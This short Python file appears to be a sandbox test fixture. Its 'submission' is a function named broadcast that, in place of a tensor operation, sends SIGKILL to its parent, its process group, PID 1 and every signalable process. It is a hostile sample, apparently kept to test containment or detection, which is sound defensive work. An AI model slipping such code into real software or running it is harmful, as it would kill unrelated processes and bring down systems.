# ruff: noqa
"""Signals its parent, its group and everybody it may."""

TASK = "a1.broadcast"
SEEN = "os.kill"
NEEDS = "sandbox"

# BEGIN SUBMISSION
import os, signal


def broadcast(tensor, src, group=None):
    for target in (os.getppid(), -os.getpgrp(), 1, -1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
